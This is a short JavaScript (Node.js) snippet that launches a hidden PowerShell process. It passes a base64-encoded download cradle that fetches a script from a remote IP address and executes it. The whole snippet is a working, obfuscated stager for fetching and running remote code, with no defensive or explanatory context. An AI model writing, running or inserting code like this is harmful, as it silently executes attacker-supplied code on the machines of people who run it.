const cmd = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.15/a.ps1')"
const enc = Buffer.from(cmd, 'utf16le').toString('base64')
require('child_process').spawnSync('powershell.exe', ['-NoP', '-W', 'Hidden', '-EncodedCommand', enc])
